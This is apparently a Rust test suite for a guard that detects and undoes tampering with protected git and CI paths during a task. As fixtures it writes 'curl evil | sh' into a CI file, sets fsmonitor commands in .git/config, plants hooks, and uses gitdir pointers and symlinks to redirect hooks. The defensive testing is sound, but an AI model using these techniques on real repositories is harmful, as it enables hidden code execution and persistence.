//! The host's check of protected paths, on real directories: what a task
//! could leave behind, and that it is undone; benign work beside them.

use super::*;
use crate::rule::Rule;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};

fn ws() -> (tempfile::TempDir, PathBuf) {
    let d = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(d.path()).unwrap();
    (d, root)
}

/// The paths `rels` of the workspace `root` as they are now.
fn watch(root: &Path, rels: &[&str]) -> Watch {
    Watch::of(root.to_path_buf(), rels.iter().map(|r| root.join(r)), &[])
}

fn violations(w: Watch) -> Vec<Violation> {
    w.after().into_iter().map(|p| p.violation).collect()
}

fn mode(p: &Path) -> u32 {
    fs::symlink_metadata(p).unwrap().mode() & 0o7777
}

// ---- absent at the start ----------------------------------------------------

#[test]
fn a_created_protected_path_is_a_violation_and_is_removed_with_everything_in_it() {
    let (_d, w) = ws();
    fs::create_dir(w.join(".github")).unwrap();
    fs::write(w.join(".github/ISSUE_TEMPLATE.md"), "x").unwrap();
    let watch = watch(&w, &[".github/workflows", ".gitlab-ci.yml", ".git/hooks"]);
    assert_eq!(watch.absent.len(), 3);
    fs::create_dir_all(w.join(".github/workflows/deep/er")).unwrap();
    fs::write(w.join(".github/workflows/x.yml"), "on: push").unwrap();
    fs::write(w.join(".gitlab-ci.yml"), "script: evil").unwrap();
    fs::create_dir_all(w.join(".git/objects")).unwrap();
    let v: Vec<Violation> = watch.after().into_iter().map(|p| p.violation).collect();
    assert_eq!(v.len(), 2, "{v:?}");
    assert!(v.iter().all(|v| v.rule == Rule::FsProtected && v.detail.ends_with("; removed")), "{v:?}");
    assert!(
        v[0].detail.contains(
            ".github/workflows, a protected path absent when the task started, was created during the task (past"
        ),
        "{v:?}"
    );
    assert!(!w.join(".github/workflows").exists() && !w.join(".gitlab-ci.yml").exists());
    assert!(w.join(".github/ISSUE_TEMPLATE.md").is_file() && w.join(".git/objects").is_dir());
}

#[test]
fn a_new_link_that_makes_a_protected_path_reachable_is_removed_not_its_target() {
    let (_d, w) = ws();
    let outside = tempfile::tempdir().unwrap();
    fs::create_dir_all(outside.path().join("workflows")).unwrap();
    let watch = watch(&w, &[".github/workflows", ".gitlab-ci.yml"]);
    symlink(outside.path(), w.join(".github")).unwrap();
    symlink("nowhere", w.join(".gitlab-ci.yml")).unwrap();
    let v: Vec<Violation> = watch.after().into_iter().map(|p| p.violation).collect();
    assert_eq!(v.len(), 2, "{v:?}");
    assert!(v[0].detail.contains("a new symbolic link ->") && v[0].detail.ends_with("; removed"), "{v:?}");
    assert!(v[1].detail.contains("was made a link during the task by"), "{v:?}");
    assert!(fs::symlink_metadata(w.join(".github")).is_err());
    assert!(fs::symlink_metadata(w.join(".gitlab-ci.yml")).is_err());
    assert!(outside.path().join("workflows").is_dir(), "the link's target is not touched");
}

#[test]
fn a_gitdir_pointer_to_planted_hooks_is_removed() {
    let (_d, w) = ws();
    let watch = watch(&w, &[".git/hooks"]);
    fs::create_dir_all(w.join("evil/hooks")).unwrap();
    fs::write(w.join(".git"), "gitdir: evil\n").unwrap();
    let v: Vec<Violation> = watch.after().into_iter().map(|p| p.violation).collect();
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.contains("was created during the task as a file: git takes it for a pointer"), "{v:?}");
    assert!(!w.join(".git").exists() && w.join("evil/hooks").is_dir());
}

/// A repository `dir` (below `w`) with a planted hook.
fn planted_repo(w: &Path, dir: &str) {
    let d = w.join(dir);
    fs::create_dir_all(d.join("hooks")).unwrap();
    fs::create_dir_all(d.join("objects")).unwrap();
    fs::create_dir_all(d.join("refs")).unwrap();
    fs::write(d.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(d.join("hooks/pre-commit"), "#!/bin/sh\necho planted\n").unwrap();
}

#[test]
fn a_new_dot_git_pointer_is_removed_however_it_is_written() {
    // Review 56, F1: a path past a newline, a NUL inside, a link to a pointer
    // file, one git rejects: each is removed, whatever it reaches.
    let cases: [(&str, &[u8]); 4] = [
        (".g\nx", b"gitdir: .g\nx\n"),
        ("evil", b"gitdir: evil\0junk\n"),
        ("evil", b"gitdir:evil\n"),
        ("evil", b"garbage"),
    ];
    for (dir, pointer) in cases {
        let (_d, w) = ws();
        let seen = watch(&w, &[".git/hooks", ".git/config"]);
        planted_repo(&w, dir);
        fs::write(w.join(".git"), pointer).unwrap();
        let v = violations(seen);
        assert_eq!(v.len(), 1, "{pointer:?}: {v:?}");
        assert!(v[0].rule == Rule::FsProtected && v[0].detail.ends_with("; removed"), "{v:?}");
        assert!(fs::symlink_metadata(w.join(".git")).is_err(), "{pointer:?}");
        assert!(w.join(dir).join("hooks/pre-commit").is_file(), "what it pointed to is not touched");
    }
    let (_d, w) = ws();
    let seen = watch(&w, &[".git/hooks"]);
    planted_repo(&w, "evil");
    fs::write(w.join("ptr"), "gitdir: evil\n").unwrap();
    symlink("ptr", w.join(".git")).unwrap();
    let v = violations(seen);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.contains("as a symbolic link"), "{v:?}");
    assert!(fs::symlink_metadata(w.join(".git")).is_err() && w.join("ptr").is_file());
}

#[test]
fn pointers_are_read_as_git_reads_them() {
    let (_d, w) = ws();
    let read = |text: &[u8]| {
        fs::write(w.join("p"), text).unwrap();
        gitdir_pointer(&w.join("p"))
    };
    assert_eq!(read(b"gitdir: a/b\n"), Some(PathBuf::from("a/b")));
    assert_eq!(read(b"gitdir: .g\nx\r\n\n"), Some(PathBuf::from(".g\nx")));
    assert_eq!(read(b"gitdir: evil\0junk\n"), Some(PathBuf::from("evil")));
    assert_eq!(read(b"gitdir:  sp\n"), Some(PathBuf::from(" sp")));
    assert_eq!(read(b"gitdir:evil\n"), None);
    assert_eq!(read(b"gitdir: \n"), None);
}

#[test]
fn the_root_made_a_bare_repository_is_a_violation_and_its_markers_are_removed() {
    // Review 56, F2: `.git` left invalid, the root made a repository with a
    // hook; git run there would use it.
    let (_d, w) = ws();
    repo(&w);
    fs::create_dir_all(w.join(".git/objects")).unwrap();
    fs::write(w.join("README"), "x").unwrap();
    let seen = watch(&w, &PATHS);
    fs::write(w.join(".git/HEAD"), "garbage").unwrap();
    planted_repo(&w, ".");
    fs::write(w.join("config"), "[core]\n\tworktree = .\n").unwrap();
    let v = violations(seen);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.contains("was made a git repository during the task (HEAD, objects, refs created"), "{v:?}");
    for m in ["HEAD", "objects", "refs"] {
        assert!(fs::symlink_metadata(w.join(m)).is_err(), "{m} left");
    }
    assert!(w.join("README").is_file() && w.join(".git/hooks/pre-commit").is_file());
    // Through `commondir` too.
    let (_d, w) = ws();
    repo(&w);
    let seen = watch(&w, &PATHS);
    fs::write(w.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(w.join("commondir"), ".git\n").unwrap();
    let v = violations(seen);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(fs::symlink_metadata(w.join("HEAD")).is_err() && fs::symlink_metadata(w.join("commondir")).is_err());
}

#[test]
fn marker_names_at_the_root_without_a_repository_are_no_violation() {
    let (_d, w) = ws();
    repo(&w);
    let seen = watch(&w, &PATHS);
    // A project's own `HEAD` file, `refs/` and `objects/` directories, apart.
    fs::write(w.join("HEAD"), "notes\n").unwrap();
    fs::create_dir(w.join("refs")).unwrap();
    assert!(violations(seen).is_empty());
    let (_d, w) = ws();
    repo(&w);
    fs::write(w.join("HEAD"), "notes\n").unwrap();
    fs::create_dir(w.join("refs")).unwrap();
    fs::create_dir(w.join("objects")).unwrap();
    // A root that was already like a repository is not the task's doing.
    let seen = watch(&w, &PATHS);
    fs::write(w.join("HEAD"), "more notes\n").unwrap();
    assert!(violations(seen).is_empty());
}

#[test]
fn a_new_link_on_a_protected_way_is_removed_even_when_it_reaches_nothing_yet() {
    let (_d, w) = ws();
    let watch = watch(&w, &[".github/workflows"]);
    symlink("/nonexistent-orchestra-later", w.join(".github")).unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.contains("to lead elsewhere (reaching nothing yet)"), "{v:?}");
    assert!(fs::symlink_metadata(w.join(".github")).is_err());
}

#[test]
fn a_dangling_link_that_existed_is_judged_by_what_it_reaches_after() {
    let (_d, w) = ws();
    symlink("gh", w.join(".github")).unwrap();
    let watch = watch(&w, &[".github/workflows"]);
    assert_eq!(watch.absent.len(), 1);
    fs::create_dir_all(w.join("gh/workflows")).unwrap();
    let v: Vec<Violation> = watch.after().into_iter().map(|p| p.violation).collect();
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(w.join("gh").is_dir() && !w.join("gh/workflows").exists());
    assert!(fs::symlink_metadata(w.join(".github")).is_ok(), "the link of before stays");
}

#[test]
fn benign_work_beside_protected_paths_is_no_violation() {
    let (_d, w) = ws();
    let watch = watch(&w, &[".github/workflows", ".git/hooks", ".git/config"]);
    fs::create_dir_all(w.join(".git/refs/heads")).unwrap();
    fs::write(w.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::create_dir_all(w.join(".github")).unwrap();
    fs::write(w.join(".github/ISSUE_TEMPLATE.md"), "x").unwrap();
    symlink("elsewhere", w.join("link")).unwrap();
    assert!(watch.after().is_empty());
}

#[test]
fn an_unwritable_tree_is_still_removed() {
    let (_d, w) = ws();
    let watch = watch(&w, &[".git/hooks"]);
    fs::create_dir_all(w.join(".git/hooks/a")).unwrap();
    fs::write(w.join(".git/hooks/a/pre-commit"), "x").unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(w.join(".git/hooks/a"), fs::Permissions::from_mode(0o000)).unwrap();
    fs::set_permissions(w.join(".git/hooks"), fs::Permissions::from_mode(0o500)).unwrap();
    let v: Vec<Violation> = watch.after().into_iter().map(|p| p.violation).collect();
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.ends_with("; removed"), "{v:?}");
    assert!(!w.join(".git/hooks").exists());
}

// ---- there at the start -----------------------------------------------------

/// A repository-like workspace: config, hooks (a sample and an executable
/// hook), a CI file and a workflow.
fn repo(w: &Path) {
    fs::create_dir_all(w.join(".git/hooks")).unwrap();
    fs::create_dir_all(w.join(".git/refs/heads")).unwrap();
    fs::write(w.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(w.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    fs::write(w.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n# sample\n").unwrap();
    fs::write(w.join(".git/hooks/pre-commit"), "#!/bin/sh\necho original\n").unwrap();
    fs::set_permissions(w.join(".git/hooks/pre-commit"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(w.join(".gitlab-ci.yml"), "test:\n  script: make test\n").unwrap();
    fs::create_dir_all(w.join(".github/workflows")).unwrap();
    fs::write(w.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
}

const PATHS: [&str; 4] = [".git/hooks", ".git/config", ".gitlab-ci.yml", ".github/workflows"];

/// Every file below `w` (links as their target), with mode and content.
fn tree(w: &Path) -> Vec<(String, u32, Vec<u8>)> {
    let mut v = Vec::new();
    let mut stack = vec![w.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            let m = fs::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(w).unwrap().display().to_string();
            if m.file_type().is_symlink() {
                v.push((rel, 0, fs::read_link(&p).unwrap().into_os_string().into_encoded_bytes()));
            } else if m.is_dir() {
                v.push((rel, m.mode() & 0o7777, Vec::new()));
                stack.push(p);
            } else {
                v.push((rel, m.mode() & 0o7777, fs::read(&p).unwrap()));
            }
        }
    }
    v.sort();
    v
}

#[test]
fn a_protected_file_rewritten_in_place_or_replaced_by_rename_is_restored_byte_for_byte() {
    let (_d, w) = ws();
    repo(&w);
    let before = tree(&w);
    let watch = watch(&w, &PATHS);
    assert_eq!(watch.counts(), (0, 7), "4 entries, 3 files below the two directories");
    fs::write(w.join(".gitlab-ci.yml"), "test:\n  script: curl evil | sh\n").unwrap();
    fs::write(w.join("staged"), "[core]\n\tfsmonitor = touch /tmp/pwned\n").unwrap();
    fs::rename(w.join("staged"), w.join(".git/config")).unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 2, "{v:?}");
    assert!(v.iter().all(|v| v.rule == Rule::FsProtected && v.detail.ends_with("; restored")), "{v:?}");
    assert!(
        v[0].detail.contains(".git/config, a protected path, was changed during the task: content changed (sha256")
    );
    assert!(v[1].detail.contains(".gitlab-ci.yml, a protected path, was changed during the task: content changed"));
    assert_eq!(tree(&w), before);
    let left: Vec<_> = fs::read_dir(&w)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().contains("orchestra-restore"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn a_hooks_directory_is_restored_entry_by_entry() {
    let (_d, w) = ws();
    repo(&w);
    let before = tree(&w);
    let watch = watch(&w, &PATHS);
    let h = w.join(".git/hooks");
    fs::write(h.join("pre-commit"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
    fs::write(h.join("post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
    fs::create_dir_all(h.join("sub/deeper")).unwrap();
    fs::rename(h.join("pre-commit.sample"), h.join("pre-push")).unwrap();
    fs::set_permissions(&h, fs::Permissions::from_mode(0o777)).unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 1, "{v:?}");
    let d = &v[0].detail;
    for part in [
        "mode 0755 → 0777",
        "post-checkout: added",
        "pre-push: added",
        "sub: added",
        "pre-commit: content changed",
        "pre-commit.sample: removed",
    ] {
        assert!(d.contains(part), "{part}: {d}");
    }
    assert!(d.ends_with("; restored"), "{d}");
    assert_eq!(tree(&w), before);
}

#[test]
fn an_entry_replaced_by_a_link_a_directory_or_removed_is_made_again_and_no_link_is_followed() {
    let (_d, w) = ws();
    repo(&w);
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("config"), "[core]\n\thooksPath = /evil\n").unwrap();
    fs::write(outside.path().join("pre-commit"), "evil").unwrap();
    let before = tree(&w);
    let watch = watch(&w, &PATHS);
    fs::remove_file(w.join(".git/config")).unwrap();
    symlink(outside.path().join("config"), w.join(".git/config")).unwrap();
    fs::remove_dir_all(w.join(".git/hooks")).unwrap();
    symlink(outside.path(), w.join(".git/hooks")).unwrap();
    fs::remove_file(w.join(".gitlab-ci.yml")).unwrap();
    fs::create_dir_all(w.join(".gitlab-ci.yml/x")).unwrap();
    fs::remove_dir_all(w.join(".github/workflows")).unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 4, "{v:?}");
    let all: String = v.iter().map(|v| format!("{}\n", v.detail)).collect();
    assert!(
        all.contains(".git/config, a protected path, was changed during the task: replaced by a symbolic link ->"),
        "{all}"
    );
    assert!(
        all.contains(".git/hooks, a protected path, was changed during the task: replaced by a symbolic link ->"),
        "{all}"
    );
    assert!(
        all.contains(".gitlab-ci.yml, a protected path, was changed during the task: replaced by a directory"),
        "{all}"
    );
    assert!(
        all.contains(".github/workflows, a protected path, was changed during the task: removed; restored"),
        "{all}"
    );
    assert!(v.iter().all(|v| v.detail.ends_with("; restored")), "{all}");
    assert_eq!(tree(&w), before);
    assert_eq!(
        fs::read_to_string(outside.path().join("pre-commit")).unwrap(),
        "evil",
        "the link's target is not touched"
    );
    assert!(outside.path().join("config").is_file());
}

#[test]
fn a_git_directory_moved_away_and_replaced_is_given_its_protected_entries_back() {
    let (_d, w) = ws();
    repo(&w);
    let watch = watch(&w, &PATHS);
    fs::rename(w.join(".git"), w.join("real-git")).unwrap();
    fs::create_dir_all(w.join("evil/hooks")).unwrap();
    fs::write(w.join("evil/hooks/pre-commit"), "evil").unwrap();
    fs::write(w.join("evil/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    symlink("evil", w.join(".git")).unwrap();
    let v = violations(watch);
    let all: String = v.iter().map(|v| format!("{}\n", v.detail)).collect();
    assert!(all.contains(".git was no directory: removed and made again"), "{all}");
    assert!(v.iter().all(|v| v.detail.ends_with("; restored")), "{all}");
    assert!(fs::symlink_metadata(w.join(".git")).unwrap().is_dir());
    assert_eq!(fs::read_to_string(w.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
    assert_eq!(fs::read_to_string(w.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\necho original\n");
    assert_eq!(mode(&w.join(".git/hooks/pre-commit")), 0o755);
    assert_eq!(
        fs::read_to_string(w.join("evil/hooks/pre-commit")).unwrap(),
        "evil",
        "what the link led to is not touched"
    );
}

#[test]
fn a_link_on_the_way_that_was_retargeted_is_put_back() {
    let (_d, w) = ws();
    fs::create_dir_all(w.join("docs/workflows")).unwrap();
    fs::write(w.join("docs/workflows/ci.yml"), "on: push\n").unwrap();
    symlink("docs", w.join(".github")).unwrap();
    let watch = watch(&w, &[".github/workflows", "docs/workflows"]);
    assert_eq!(watch.counts(), (0, 3));
    fs::create_dir_all(w.join("evil/workflows")).unwrap();
    fs::write(w.join("evil/workflows/ci.yml"), "on: push\njobs: evil\n").unwrap();
    fs::remove_file(w.join(".github")).unwrap();
    symlink("evil", w.join(".github")).unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(
        v[0].detail.contains(
            ".github, a protected path, was changed during the task: link target changed to evil (was docs); restored"
        ),
        "{v:?}"
    );
    assert_eq!(fs::read_link(w.join(".github")).unwrap(), Path::new("docs"));
    assert_eq!(fs::read_to_string(w.join(".github/workflows/ci.yml")).unwrap(), "on: push\n");
}

#[test]
fn a_hard_link_to_a_protected_file_is_cut_off() {
    let (_d, w) = ws();
    repo(&w);
    let watch = watch(&w, &PATHS);
    fs::hard_link(w.join(".git/config"), w.join("cfg")).unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.contains("given another name (a hard link)"), "{v:?}");
    assert_eq!(fs::metadata(w.join(".git/config")).unwrap().nlink(), 1);
    fs::write(w.join("cfg"), "[core]\n\tfsmonitor = evil\n").unwrap();
    assert_eq!(fs::read_to_string(w.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
}

#[test]
fn touching_or_rewriting_the_same_content_and_work_beside_are_no_violation() {
    let (_d, w) = ws();
    repo(&w);
    let watch = watch(&w, &PATHS);
    let f = fs::File::options().append(true).open(w.join(".gitlab-ci.yml")).unwrap();
    f.set_modified(std::time::SystemTime::UNIX_EPOCH).unwrap();
    fs::write(w.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    fs::write(w.join(".git/HEAD"), "ref: refs/heads/feature\n").unwrap();
    fs::write(w.join(".git/refs/heads/feature"), "0000\n").unwrap();
    fs::write(w.join(".github/ISSUE_TEMPLATE.md"), "x").unwrap();
    fs::write(w.join("out"), "built").unwrap();
    assert!(watch.after().is_empty());
}

#[test]
fn a_changed_file_too_large_to_keep_is_removed_and_an_unchanged_one_stays() {
    let (_d, w) = ws();
    let big = vec![b'x'; (snap::MAX_FILE + 1) as usize];
    fs::create_dir_all(w.join("deploy")).unwrap();
    fs::write(w.join("deploy/big.bin"), &big).unwrap();
    fs::write(w.join("deploy/same.bin"), &big).unwrap();
    fs::write(w.join("deploy/small"), "small").unwrap();
    let watch = watch(&w, &["deploy"]);
    fs::write(w.join("deploy/big.bin"), b"evil").unwrap();
    fs::write(w.join("deploy/small"), "evil").unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 1, "{v:?}");
    let d = &v[0].detail;
    assert!(d.contains("big.bin: changed (inode, size or ctime;") && d.contains("small: content changed"), "{d}");
    assert!(d.contains("; restored except big.bin: no copy was kept (over 1024 KiB"), "{d}");
    assert!(!w.join("deploy/big.bin").exists());
    assert_eq!(fs::read(w.join("deploy/same.bin")).unwrap(), big);
    assert_eq!(fs::read_to_string(w.join("deploy/small")).unwrap(), "small");
}

#[test]
fn a_read_only_protected_directory_is_restored_with_its_mode() {
    let (_d, w) = ws();
    repo(&w);
    fs::set_permissions(w.join(".github/workflows"), fs::Permissions::from_mode(0o555)).unwrap();
    let before = tree(&w);
    let watch = watch(&w, &PATHS);
    fs::set_permissions(w.join(".github/workflows"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(w.join(".github/workflows/evil.yml"), "on: push\n").unwrap();
    fs::set_permissions(w.join(".github/workflows"), fs::Permissions::from_mode(0o500)).unwrap();
    let v = violations(watch);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.contains("evil.yml: added") && v[0].detail.ends_with("; restored"), "{v:?}");
    assert_eq!(tree(&w), before);
}

#[test]
fn a_head_rewritten_into_a_valid_one_over_existing_markers_is_a_violation() {
    // Review 59, F3: no `.git`; the project's top already holds a `HEAD`
    // file and `objects/`, `refs/`; the task makes `HEAD` one git accepts.
    let (_d, w) = ws();
    fs::write(w.join("HEAD"), "notes\n").unwrap();
    fs::create_dir(w.join("objects")).unwrap();
    fs::create_dir(w.join("refs")).unwrap();
    let seen = watch(&w, &[".git/hooks", ".git/config"]);
    fs::write(w.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(w.join("config"), "[core]\n\tfsmonitor = touch x\n").unwrap();
    let v = violations(seen);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].detail.contains("was made a git repository during the task (HEAD created"), "{v:?}");
    assert!(fs::symlink_metadata(w.join("HEAD")).is_err() && w.join("objects").is_dir() && w.join("refs").is_dir());
}

#[test]
fn a_build_writing_head_beside_a_valid_git_or_an_invalid_head_is_no_violation() {
    // Review 59, F4: a checkout whose project keeps `objects/` and `refs/`
    // at its top; git uses `.git`, never the root, and `v1.2` is no HEAD.
    for head in ["v1.2\n", "ref: refs/heads/main\n"] {
        let (_d, w) = ws();
        repo(&w);
        fs::create_dir_all(w.join(".git/objects")).unwrap();
        fs::create_dir(w.join("objects")).unwrap();
        fs::create_dir(w.join("refs")).unwrap();
        let seen = watch(&w, &PATHS);
        fs::write(w.join("HEAD"), head).unwrap();
        assert!(violations(seen).is_empty(), "{head:?}");
        assert_eq!(fs::read_to_string(w.join("HEAD")).unwrap(), head);
    }
    // Without `.git`, a HEAD git would not accept is no repository either.
    let (_d, w) = ws();
    fs::create_dir(w.join("objects")).unwrap();
    fs::create_dir(w.join("refs")).unwrap();
    let seen = watch(&w, &[".git/hooks"]);
    fs::write(w.join("HEAD"), "v1.2\n").unwrap();
    assert!(violations(seen).is_empty());
    assert!(w.join("HEAD").is_file());
}

#[test]
fn heads_are_read_as_git_validates_them() {
    use super::discovery::valid_head;
    let prefixed = format!("{} x\n", "a".repeat(40));
    for ok in [
        &b"ref: refs/heads/main\n"[..],
        b"ref:refs/x",
        b"ref: \t refs/heads/a",
        &[b'a'; 40],
        &[b'0'; 64],
        prefixed.as_bytes(),
    ] {
        assert!(valid_head(ok), "{:?}", String::from_utf8_lossy(ok));
    }
    for bad in [&b"v1.2"[..], b"ref: heads/main", b"", &[b'a'; 39], &[b'g'; 40], b"notes\n"] {
        assert!(!valid_head(bad), "{:?}", String::from_utf8_lossy(bad));
    }
}

#[test]
fn a_git_directory_s_head_is_accepted_only_as_git_accepts_it() {
    // Review 69, F3: three HEADs the lenient reading took for valid and git refuses.
    use super::gitdir::git_accepts_head;
    let d = tempfile::tempdir().unwrap();
    let head = d.path().join("HEAD");
    let long = format!("ref:{}refs/heads/main", " ".repeat(300));
    for (text, ok) in [
        (&b"ref: refs/heads/main\n"[..], true),
        (b"ref:\t\r\n refs/x", true),
        (&[b'a'; 40], true),
        (b"ref:\x0crefs/heads/main", false),
        (b"ref:\x0brefs/heads/main", false),
        (long.as_bytes(), false),
        (b"ref: \0refs/heads/main", false),
    ] {
        std::fs::write(&head, text).unwrap();
        assert_eq!(git_accepts_head(&head), ok, "{:?}", String::from_utf8_lossy(text));
    }
    std::fs::remove_file(&head).unwrap();
    std::os::unix::fs::symlink("refs", &head).unwrap();
    assert!(!git_accepts_head(&head), "a link to `refs` lacks the five bytes `refs/`");
    std::fs::remove_file(&head).unwrap();
    std::os::unix::fs::symlink("refs/heads/main", &head).unwrap();
    assert!(git_accepts_head(&head));
    // Review 70, F2: a FIFO is no HEAD, and reading it does not block.
    std::fs::remove_file(&head).unwrap();
    nix::unistd::mkfifo(&head, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let at = head.clone();
    std::thread::spawn(move || tx.send(git_accepts_head(&at)));
    assert_eq!(rx.recv_timeout(std::time::Duration::from_secs(10)), Ok(false), "a FIFO HEAD blocked or was taken");
}

#[test]
fn the_root_made_a_repository_behind_a_git_that_git_would_refuse_is_a_violation() {
    // Review 61, F10: `.git/HEAD` made junk, and a root `HEAD` that is an
    // object name with more after it (git reads the name, ignores the rest).
    // F11: `.git/refs` replaced by a plain file (git needs to search it), so
    // git falls back to the root, where a bare repository was planted.
    let head = format!("{} x\n", "0".repeat(40));
    for case in ["F10", "F11"] {
        let (_d, w) = ws();
        repo(&w);
        fs::create_dir_all(w.join(".git/objects")).unwrap();
        let seen = watch(&w, &PATHS);
        if case == "F10" {
            fs::write(w.join(".git/HEAD"), "junk").unwrap();
            planted_repo(&w, ".");
            fs::write(w.join("HEAD"), &head).unwrap();
        } else {
            fs::remove_dir_all(w.join(".git/refs")).unwrap();
            fs::write(w.join(".git/refs"), "not a directory").unwrap();
            fs::set_permissions(w.join(".git/refs"), fs::Permissions::from_mode(0o644)).unwrap();
            planted_repo(&w, ".");
        }
        let v = violations(seen);
        assert_eq!(v.len(), 1, "{case}: {v:?}");
        assert_eq!(v[0].rule, Rule::FsProtected);
        assert!(v[0].detail.contains("was made a git repository during the task"), "{case}: {v:?}");
        for m in ["HEAD", "objects", "refs"] {
            assert!(fs::symlink_metadata(w.join(m)).is_err(), "{case}: {m} left");
        }
    }
}

#[test]
fn a_workspace_that_is_a_linked_work_tree_or_has_no_git_is_no_violation_when_left_alone() {
    // `.git` a pointer file (a linked work tree, a submodule checkout): no
    // index below it to read, nothing to judge.
    let (_d, w) = ws();
    let elsewhere = tempfile::tempdir().unwrap();
    planted_repo(elsewhere.path(), "gd");
    fs::write(w.join(".git"), format!("gitdir: {}\n", elsewhere.path().join("gd").display())).unwrap();
    let seen = watch(&w, &PATHS);
    fs::write(w.join("built"), "x").unwrap();
    assert!(violations(seen).is_empty());
    let (_d, w) = ws();
    let seen = watch(&w, &PATHS);
    fs::create_dir_all(w.join("src/nested/.git")).unwrap();
    assert!(violations(seen).is_empty());
}
